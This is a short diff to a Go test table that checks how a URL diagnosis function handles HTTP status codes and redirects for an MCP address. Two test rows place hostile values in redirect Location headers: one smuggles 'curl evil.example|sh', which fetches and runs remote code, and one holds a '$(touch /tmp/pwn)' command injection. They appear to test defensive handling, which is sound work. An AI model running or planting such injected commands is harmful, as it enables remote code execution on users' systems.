@@ -250,7 +250,7 @@ func TestAnswersOfAURL(t *testing.T) {
 		{"415", false, HTTP{Status: 415}, "content_type_refused", "Check the address"},
 		{"another host", false, HTTP{Status: 301, Location: "https://evil.example/mcp ; curl evil.example|sh"}, "trailing_slash_redirect", "write the new address"},
 		{"a slash", false, HTTP{Status: 307, Location: "/mcp/"}, "trailing_slash_redirect", "https://a.example/mcp/"},
-		{"another path", false, HTTP{Status: 308, Location: "/x$(touch /tmp/pwn)"}, "trailing_slash_redirect", "as the redirect names it"},
+		{"another path", false, HTTP{Status: 308, Location: "/x$(touch /tmp/pwn)"}, "trailing_slash_redirect", "that the redirect names"},
 	} {
 		d := Diagnose(Case{URL: "https://a.example/mcp", Live: true, Stage: Started, Keyed: c.keyed, HTTP: []HTTP{c.seen}})
 		if d.Cause != c.cause || !strings.Contains(d.Fix, c.says) {
